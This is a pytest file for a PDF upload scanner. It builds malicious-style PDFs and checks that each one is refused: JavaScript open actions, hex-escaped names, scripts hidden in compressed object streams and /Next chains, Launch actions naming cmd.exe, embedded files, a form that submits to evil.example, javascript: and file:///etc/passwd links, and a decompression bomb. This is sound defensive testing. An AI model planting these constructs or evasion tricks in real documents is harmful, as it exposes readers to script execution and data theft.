"""Uploaded PDFs are parsed, not grepped: the catalog, pages, annotations, outlines and
every action's /Next chain are walked for scripts, launch actions, attachments and the
like, wherever they hide (hex-escaped names, compressed object streams). A PDF we
cannot read, or that asks for a password, is refused; the walk is bounded."""

import io
import zlib

import pypdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from pypdf.actions import JavaScript, PageTrigger
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    TextStringObject,
)

from documents import pdfscan
from documents.models import Document
from documents.services import document_upload
from documents.validation import UploadRejected, inspect_upload
from rooms.actors import Actor
from stakeholders import links
from stakeholders.models import Scope
from tests.factories import StakeholderFactory

HX = {"HTTP_HX_REQUEST": "true"}
SCRIPT = "This PDF runs JavaScript when opened; save it without scripts (e.g. Print to PDF)"
UNREADABLE = "We could not read this PDF"
PASSWORD = "protected by a password"


# --- building real PDFs ------------------------------------------------------------------------


def written(writer):
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def writer_with_page():
    writer = pypdf.PdfWriter()
    writer.add_blank_page(width=200, height=200)
    return writer


def clean_pdf():
    return written(writer_with_page())


def name(value):
    return NameObject(value)


def action(kind, **entries):
    result = DictionaryObject({name("/S"): name(f"/{kind}")})
    for key, value in entries.items():
        result[name(f"/{key}")] = value
    return result


def with_annotation(annotation):
    writer = writer_with_page()
    annotation.update(
        {
            name("/Type"): name("/Annot"),
            name("/Rect"): ArrayObject([FloatObject(10), FloatObject(10)] * 2),
        }
    )
    annotation.setdefault(name("/Subtype"), name("/Link"))
    writer.add_annotation(0, annotation)
    return written(writer)


def link_to(uri):
    return with_annotation(DictionaryObject({name("/A"): action("URI", URI=TextStringObject(uri))}))


def raw_pdf(catalog_extra=b"", page_extra=b"", objects=None):
    """A PDF written byte by byte (so names can be hex-escaped), with a correct xref."""
    bodies = {
        1: b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] " + page_extra + b" >>",
        **(objects or {}),
    }
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(bodies):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, bodies[number])
    size = max(bodies) + 1
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 n \n" % offsets[number]
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, xref)
    return bytes(out)


def pdf_with_object_streams(catalog_extra, streams):
    """Objects 1-3 plain; ``streams`` is a list of {number: body} each packed into one
    compressed object stream; a compressed cross-reference stream lists them all."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    plain = {
        1: b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    }
    rows = {0: (0, 0, 65535)}
    for number, body in plain.items():
        rows[number] = (1, len(out), 0)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    next_number = max([3, *(n for s in streams for n in s)]) + 1
    for packed in streams:
        offsets, body = [], b""
        for index, (number, text) in enumerate(packed.items()):
            offsets.append(len(body))
            body += text + b" "
            rows[number] = (2, next_number, index)
        header = b" ".join(b"%d %d" % (n, o) for n, o in zip(packed, offsets, strict=True)) + b" "
        data = zlib.compress(header + body)
        rows[next_number] = (1, len(out), 0)
        out += (
            b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\n"
            b"stream\n%s\nendstream\nendobj\n"
            % (next_number, len(packed), len(header), len(data), data)
        )
        next_number += 1
    xref_number = next_number
    rows[xref_number] = (1, len(out), 0)
    table = b"".join(
        bytes([kind]) + field.to_bytes(4, "big") + extra.to_bytes(2, "big")
        for kind, field, extra in (rows.get(n, (0, 0, 0)) for n in range(xref_number + 1))
    )
    data = zlib.compress(table)
    xref = len(out)
    out += (
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode "
        b"/Length %d >>\nstream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n"
        % (xref_number, xref_number + 1, len(data), data, xref)
    )
    return bytes(out)


def upload(content, filename="deck.pdf"):
    return SimpleUploadedFile(filename, content, content_type="application/pdf")


def refused(content):
    with pytest.raises(UploadRejected) as caught:
        inspect_upload(upload(content))
    return str(caught.value)


# --- what passes -------------------------------------------------------------------------------


def test_a_clean_pdf_passes():
    assert inspect_upload(upload(clean_pdf())).content_type == "application/pdf"


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(link_to("https://example.com/pricing"), id="https link"),
        pytest.param(link_to("mailto:sales@example.com"), id="mailto link"),
        pytest.param(raw_pdf(b"/OpenAction [3 0 R /Fit]"), id="open at page 1"),
        pytest.param(
            raw_pdf(
                b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 4 0 R >>",
                objects={4: b"<< /S /Named /N /NextPage /Next 4 0 R >>"},
            ),
            id="a /Next chain that loops on itself",
        ),
        pytest.param(
            pdf_with_object_streams(b"/Outlines 4 0 R", [{4: b"<< /Count 0 >>"}]),
            id="clean object stream",
        ),
    ],
)
def test_ordinary_pdfs_with_links_and_navigation_pass(content):
    assert inspect_upload(upload(content)).content_type == "application/pdf"


def test_a_pdf_locked_only_against_editing_passes():
    writer = writer_with_page()
    writer.encrypt(user_password="", owner_password="owner-secret", algorithm="AES-128")
    assert inspect_upload(upload(written(writer))).content_type == "application/pdf"


# --- what is refused, and the message says what was found -------------------------------------


def test_javascript_in_the_open_action_is_refused():
    writer = writer_with_page()
    writer.root_object[name("/OpenAction")] = action(
        "JavaScript", JS=TextStringObject("app.alert(1)")
    )
    message = refused(written(writer))
    assert message.startswith(SCRIPT)
    assert message.endswith("and upload it again.")


def test_hex_escaped_names_are_read_as_the_names_they_spell():
    content = raw_pdf(b"/OpenAction << /S /#4A#61vaScript /#4A#53 (app.alert\\(1\\)) >>")
    assert b"JavaScript" not in content and b"/JS" not in content
    assert refused(content).startswith(SCRIPT)


def test_an_action_inside_a_compressed_object_stream_is_found():
    content = pdf_with_object_streams(
        b"/OpenAction 4 0 R", [{4: b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"}]
    )
    assert b"JavaScript" not in content
    assert refused(content).startswith(SCRIPT)


def test_document_level_scripts_are_refused():
    writer = writer_with_page()
    writer.add_open_action(JavaScript("this.print()"))
    assert refused(written(writer)).startswith(SCRIPT)


def test_a_script_run_when_a_page_opens_is_refused():
    writer = writer_with_page()
    writer.pages[0].add_action(PageTrigger.OPEN, JavaScript("app.alert(1)"))
    assert "JavaScript" in refused(written(writer))


def test_a_launch_action_on_a_page_annotation_is_refused():
    content = with_annotation(
        DictionaryObject({name("/A"): action("Launch", F=TextStringObject("calc.exe"))})
    )
    assert "launch" in refused(content).lower()


def test_an_embedded_file_is_refused():
    writer = writer_with_page()
    writer.add_attachment("payload.txt", b"not for you")
    assert "embedded file" in refused(written(writer))


@pytest.mark.parametrize(
    "uri",
    [
        "javascript:app.alert(1)",
        " JavaScript:alert(1)",
        "java\tscript:x",
        "data:text/html,x",
        "file:///etc/passwd",
        "vbscript:x",
    ],
)
def test_a_link_to_a_script_data_or_file_address_is_refused(uri):
    message = refused(link_to(uri))
    assert "link" in message and ":" in message


def test_a_next_chain_hiding_javascript_is_refused():
    content = raw_pdf(
        b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [4 0 R 5 0 R] >>",
        objects={
            4: b"<< /S /Named /N /FirstPage >>",
            5: b"<< /S /Named /N /LastPage /Next << /S /JavaScript /JS 6 0 R >> >>",
            6: b"<< /Length 12 >>\nstream\napp.alert(1)\nendstream",
        },
    )
    assert refused(content).startswith(SCRIPT)


@pytest.mark.parametrize(
    ("catalog", "page", "objects", "found"),
    [
        pytest.param(
            b"/AcroForm << /Fields [] /XFA 4 0 R >>", b"", {4: b"[]"}, "XFA form", id="xfa"
        ),
        pytest.param(
            b"/AcroForm << /Fields [4 0 R] >>",
            b"/Annots [4 0 R]",
            {
                4: b"<< /Type /Annot /Subtype /Widget /FT /Btn /Rect [0 0 9 9] /P 3 0 R "
                b"/A << /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >> >>"
            },
            "sends form data",
            id="submit form",
        ),
        pytest.param(
            b"/AcroForm << /Fields [4 0 R] >>",
            b"/Annots [4 0 R]",
            {
                4: b"<< /Type /Annot /Subtype /Widget /FT /Tx /Rect [0 0 9 9] /P 3 0 R "
                b"/AA << /K << /S /JavaScript /JS (event.rc = true) >> >> >>"
            },
            "JavaScript",
            id="form field keystroke script",
        ),
        pytest.param(
            b"/Outlines 4 0 R",
            b"",
            {
                4: b"<< /First 5 0 R /Last 5 0 R /Count 1 >>",
                5: b"<< /Title (Go) /Parent 4 0 R /A << /S /GoToR /F (other.pdf) /D [0 /Fit] >> >>",
            },
            "opens other files",
            id="outline item to another file",
        ),
        pytest.param(
            b"/OpenAction << /S /GoToE /T << /R /C /N (x) >> >>",
            b"",
            {},
            "opens other files",
            id="embedded go-to",
        ),
        pytest.param(
            b"/AA << /WC << /S /ImportData /F (data.fdf) >> >>",
            b"",
            {},
            "imports data",
            id="import data on close",
        ),
        pytest.param(
            b"",
            b"/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>]",
            {},
            "media",
            id="rich media",
        ),
        pytest.param(
            b"",
            b"/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] "
            b"/FS << /Type /Filespec /F (x.exe) >> >>]",
            {},
            "embedded file",
            id="file attachment annotation",
        ),
        pytest.param(
            b"/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /F (a) /EF << /F 4 0 R"
            b" >> >>] >> >>",
            b"",
            {4: b"<< /Type /EmbeddedFile /Length 1 >>\nstream\nx\nendstream"},
            "embedded file",
            id="names tree embedded files",
        ),
        pytest.param(
            b"",
            b"/AA << /O << /S /Launch /Win << /F (cmd.exe) >> >> >>",
            {},
            "launch",
            id="page open launch",
        ),
    ],
)
def test_other_active_content_is_refused_and_named(catalog, page, objects, found):
    message = refused(raw_pdf(catalog, page, objects))
    assert found in message
    assert "(e.g. Print to PDF) and upload it again." in message


def test_several_findings_are_named_together():
    writer = writer_with_page()
    writer.root_object[name("/OpenAction")] = action("JavaScript", JS=TextStringObject("x"))
    writer.add_attachment("payload.txt", b"x")
    message = refused(written(writer))
    assert "JavaScript" in message and "embedded file" in message


# --- files we cannot read, or may not ----------------------------------------------------------


@pytest.mark.parametrize("keep", [0.5, 0.9])
def test_a_truncated_pdf_is_refused_as_unreadable(keep):
    content = clean_pdf()
    assert UNREADABLE in refused(content[: int(len(content) * keep)])


def test_garbage_after_the_header_is_refused_as_unreadable():
    assert UNREADABLE in refused(b"%PDF-1.7\n" + bytes(range(256)) * 40)


def test_a_pdf_that_asks_for_a_password_is_refused():
    writer = writer_with_page()
    writer.encrypt(user_password="open-sesame", algorithm="AES-256")
    message = refused(written(writer))
    assert PASSWORD in message


def test_an_encrypted_pdf_without_a_password_is_still_checked():
    writer = writer_with_page()
    writer.root_object[name("/OpenAction")] = action("JavaScript", JS=TextStringObject("x"))
    writer.encrypt(user_password="", owner_password="owner-secret", algorithm="AES-128")
    assert refused(written(writer)).startswith(SCRIPT)


# --- the walk is bounded -----------------------------------------------------------------------


def test_a_decompression_bomb_is_refused(monkeypatch):
    monkeypatch.setattr(pdfscan, "STREAM_BYTES", 100_000)
    bomb = b"<< /Count 0 >> " + b" " * 2_000_000
    content = pdf_with_object_streams(b"/Outlines 4 0 R", [{4: bomb}])
    assert len(content) < 20_000
    assert "too large or complex" in refused(content)


def test_object_streams_are_budgeted_together(monkeypatch):
    monkeypatch.setattr(pdfscan, "STREAM_BYTES", 100_000)
    monkeypatch.setattr(pdfscan, "DECODED_BYTES", 250_000)
    padding = b" " * 90_000
    streams = [{4 + i: b"<< /Count 0 /Next %d 0 R >> " % (5 + i) + padding} for i in range(4)]
    streams.append({8: b"<< /Count 0 >>"})
    content = pdf_with_object_streams(b"/Outlines 4 0 R", streams)
    assert "too large or complex" in refused(content)


def test_a_long_chain_of_objects_is_cut_off_by_the_node_budget(monkeypatch):
    monkeypatch.setattr(pdfscan, "NODE_BUDGET", 500)
    chain = {4 + i: b"<< /S /Named /N /NextPage /Next %d 0 R >>" % (5 + i) for i in range(400)}
    chain[404] = b"<< /S /Named /N /NextPage >>"
    content = raw_pdf(b"/OpenAction 4 0 R", objects=chain)
    assert "too large or complex" in refused(content)


def test_deeply_nested_arrays_are_refused_not_crashed_on():
    content = raw_pdf(b"/Nested " + b"[" * 5000 + b"]" * 5000)
    message = refused(content)
    assert UNREADABLE in message or "too large or complex" in message


# --- through the service and the pages ---------------------------------------------------------


SCRIPTED = raw_pdf(b"/OpenAction << /S /#4A#61vaScript /JS (app.alert\\(1\\)) >>")


@pytest.mark.django_db
def test_the_upload_service_refuses_it(room, owner):
    with pytest.raises(UploadRejected, match="runs JavaScript when opened"):
        document_upload(actor=Actor(user=owner), room=room, upload=upload(SCRIPTED))
    assert not Document.objects.exists()


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("content", "why"),
    [(SCRIPTED, "runs JavaScript when opened"), (clean_pdf()[:300], UNREADABLE)],
)
def test_the_seller_upload_page_answers_422_with_the_reason(owner_client, room, content, why):
    response = owner_client.post(
        reverse("documents:upload", args=[room.pk]), {"file": upload(content)}, **HX
    )
    assert response.status_code == 422
    assert why in response.content.decode()
    assert not Document.objects.exists()


@pytest.mark.django_db
def test_the_buyer_upload_page_answers_422_with_the_reason(room):
    person = StakeholderFactory(room=room, scope=Scope.WHOLE_PLAN)
    _, token = links.link_issue(actor=Actor(), room=room, stakeholder=person)
    client = Client()
    assert client.get(reverse("buyer:open", args=[token])).status_code == 303
    response = client.post(
        reverse("buyer_documents:upload"), {"file": upload(link_to("javascript:x"))}, **HX
    )
    assert response.status_code == 422
    assert "javascript:" in response.content.decode()
    assert not Document.objects.exists()
